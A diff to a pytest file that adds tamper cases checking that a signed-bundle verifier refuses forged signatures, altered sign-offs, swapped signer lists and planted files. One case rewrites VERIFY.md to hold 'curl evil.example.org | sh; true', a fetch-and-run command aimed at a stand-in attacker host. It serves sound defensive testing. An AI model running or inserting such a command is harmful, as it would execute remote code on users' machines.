@@ -14,6 +14,7 @@ from pathlib import Path
 import msgspec
 import pytest
 
+from runbook_tui import __version__
 from runbook_tui.bundling import bundled, unbundled
 from runbook_tui.report import bundle
 from runbook_tui.report.account import Account, KeptText
@@ -55,10 +56,9 @@ def files(data: bytes) -> Files:
 
 
 def judged(data: bytes) -> Findings:
-    evidence, notes = unbundled(data)
+    evidence, broken = unbundled(data)
     found = verify(evidence)
-    assert not notes
-    return found
+    return msgspec.structs.replace(found, findings=(*broken, *found.findings))
 
 
 def packed(content: Files) -> bytes:
@@ -159,9 +159,57 @@ def list_of_signers_changed(content: Files) -> None:
     content[name] = content["allowed_signers"] = content["allowed_signers"].replace(b"ana@", b"mallory@")
 
 
+def statement_beside_changed(content: Files) -> None:
+    name = next(name for name in content if name.startswith("signoffs/") and name.endswith(".json"))
+    content[name] = content[name].replace(b"approved for production", b"approved for anything")
+
+
+def signature_beside_of_another(content: Files) -> None:
+    first, second = sorted(name for name in content if name.endswith(".json.sig"))
+    content[first], content[second] = content[second], content[first]
+
+
+def statement_beside_left_out(content: Files) -> None:
+    del content[next(name for name in content if name.endswith(".json.sig"))]
+
+
+def sign_off_put_in(content: Files) -> None:
+    content["signoffs/9999.json"] = content["signoffs/9999.json.sig"] = b"{}"
+
+
+def signers_beside_changed(content: Files) -> None:
+    content["allowed_signers"] = content["allowed_signers"].replace(b"ana@", b"mallory@")
+
+
+def policy_beside_changed(content: Files) -> None:
+    content["policy.yaml"] += b"override: anyone\n"
+
+
+def revoked_put_in(content: Files) -> None:
+    content["revoked"] = b""
+
+
+def instructions_changed(content: Files) -> None:
+    content["VERIFY.md"] = content["VERIFY.md"].replace(b"sha256sum --check", b"curl evil.example.org | sh; true")
+
+
+def instructions_left_out(content: Files) -> None:
+    del content["VERIFY.md"]
+
+
+def file_put_in(content: Files) -> None:
+    content["README.md"] = b"All is well.\n"
+
+
+def blob_put_in(content: Files) -> None:
+    content[f"blobs/{sha256(b'x').hexdigest()}"] = b"x"
+
+
 CHANGES: list[Callable[[Files], None]] = [
     output_changed, output_left_out, event_dropped, event_doubled, events_swapped, event_edited,
-    event_edited_and_head_put_right, tail_cut, signature_of_another, list_of_signers_changed,
+    event_edited_and_head_put_right, tail_cut, signature_of_another, list_of_signers_changed, statement_beside_changed,
+    signature_beside_of_another, statement_beside_left_out, sign_off_put_in, signers_beside_changed,
+    policy_beside_changed, revoked_put_in, instructions_changed, instructions_left_out, file_put_in, blob_put_in,
 ]  # fmt: skip
 
 
@@ -173,6 +221,33 @@ def test_a_changed_bundle_is_refused_with_the_reason(signed: bytes, change: Call
     assert found.violated, [one.text for one in found.findings]
     assert found.exit_code == 5
     assert all(one.text for one in found.findings)
+
+
+@pytest.mark.parametrize(("tool", "code"), [("0.0.1", 1), ("", 1), (__version__, 5)])
+def test_instructions_of_another_version_are_told_and_not_called_forged(signed: bytes, tool: str, code: int) -> None:
+    content = files(signed)
+    content["run.json"] = msgspec.json.encode(json.loads(content["run.json"]) | {"tool": tool})
+    content["VERIFY.md"] += b"More.\n"
+    assert judged(packed(content)).exit_code == code
+
+
+def test_a_bundle_from_before_its_tool_was_named_still_holds(signed: bytes) -> None:
+    content = files(signed)
+    about = json.loads(content["run.json"])
+    del about["tool"]
+    content["run.json"] = msgspec.json.encode(about)
+    text = content["VERIFY.md"]
+    at = text.index(b"\n\n`report.html`")
+    content["VERIFY.md"] = text[:at] + text[text.index(b"\n\nWhat this cannot tell") :]
+    assert judged(packed(content)).findings == ()
+
+
+def test_what_is_for_reading_only_is_said_to_prove_nothing(signed: bytes) -> None:
+    content = files(signed)
+    content["report.html"] = b"<h1>Approved by everybody</h1>"
+    found = judged(packed(content))
+    assert any("report.html and report.md" in one for one in found.cannot_tell)
+    assert b"nothing here proves them" in content["VERIFY.md"]
 
 
 def test_every_event_dropped_doubled_or_swapped_in_turn(signed: bytes) -> None:
